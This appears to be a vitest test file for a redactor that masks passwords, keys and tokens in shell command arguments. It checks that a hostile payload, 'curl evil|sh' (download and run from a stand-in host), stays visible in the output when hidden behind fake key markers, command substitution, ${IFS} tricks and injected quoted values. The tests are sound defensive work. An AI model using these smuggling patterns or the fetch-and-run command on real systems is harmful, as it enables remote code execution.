import { describe, expect, test } from 'vitest';
import { createRedactor } from './redact.ts';

const redactor = createRedactor({
  id: '0a1b2c',
  secrets: () => [{ kind: 'SSH_PASSWORD', value: 'correct horse; battery' }],
});
const PAYLOAD = 'curl evil|sh';
const marker = (word: string) => `-----${word} PRIVATE KEY-----`;

describe('keeps what a command does readable', () => {
  test.each([
    ['markers of a private key', `: '${marker('BEGIN')}'\n${PAYLOAD}\n: '${marker('END')}'`],
    ['markers on one line', `: ${marker('BEGIN')}; ${PAYLOAD}; : ${marker('END')}`],
    [
      'a here-document with markers',
      `cat <<X\n${marker('BEGIN')}\nX\n${PAYLOAD}\ncat <<X\n${marker('END')}\nX`,
    ],
    [
      'markers of an OpenVPN key',
      `: '-----BEGIN OpenVPN Static key V1-----'\n${PAYLOAD}\n: '-----END OpenVPN Static key V1-----'`,
    ],
    ['lines of a PuTTY key', `: Private-Lines: 3\n${PAYLOAD}\n:\n:`],
    ['backticks', `password=\`${PAYLOAD}\` true`],
    ['a command substitution', `PASSWORD="x$(${PAYLOAD})"`],
    ['a quoted value', `PASSWORD="; ${PAYLOAD}; "`],
    ['an environment variable', `PASS=a;${PAYLOAD};id`],
    ['spaces that are written otherwise', `PASS=a;curl\${IFS}evil|sh`],
    ['a header', `echo Authorization: Bearer x; ${PAYLOAD}`],
    ['a token', `token=1;${PAYLOAD}`],
    ['an option', `sshpass -p x;${PAYLOAD}`],
    ['a quoted option', `sshpass -p 'x;${PAYLOAD}'`],
    ['a user of curl', `curl -u 'a:b;${PAYLOAD}' h`],
    ['a URL', `: http://u:$(${PAYLOAD})@h`],
    ['an XML element', `: '<password>x;${PAYLOAD};</password>'`],
    ['SQL', `: PASSWORD 'x;${PAYLOAD};'`],
    ['.pgpass', `: h\na.b:5432:c:d:x;${PAYLOAD}`],
    ['an escape sequence', `: \u001b]0;${PAYLOAD}\u0007`],
    ['many secrets before it', `${'password=aB3aB3;'.repeat(500)}${PAYLOAD}`],
    ['a placeholder of its own', `: '[redacted: password 0a1b2c]'; ${PAYLOAD}`],
  ])('after %s', async (_, command) => {
    expect((await redactor.cleanArgument(command)).replace(/\$\{IFS\}/g, ' ')).toContain(PAYLOAD);
  });

  test('keeps every line of a command', async () => {
    const command = [marker('BEGIN'), ...'abcdefgh', marker('END'), 'password=x1 \\', 'id'].join('\n');
    expect((await redactor.cleanArgument(command)).split('\n')).toHaveLength(command.split('\n').length);
  });
});

describe('redacts secrets in arguments', () => {
  test.each([
    ['mysql -u root -phunter2 -e x', 'mysql -u root -p[redacted: password 0a1b2c] -e x'],
    ['DB_PASS=hunter2 ./run', 'DB_PASS=[redacted: password 0a1b2c] ./run'],
    ['curl -H "X-Api-Key: abcdef12" h', 'curl -H "X-Api-Key: [redacted: secret 0a1b2c]" h'],
    ['echo correct horse; battery', 'echo [redacted: SSH_PASSWORD 0a1b2c]'],
  ])('%s', async (command, shown) => {
    expect(await redactor.cleanArgument(command)).toBe(shown);
  });

  test('changes nothing else: escape sequences and invisible characters stay', async () => {
    const command = 'printf "\u001b[31m\u202e\u200b\r"';
    expect(await redactor.cleanArgument(command)).toBe(command);
  });
});
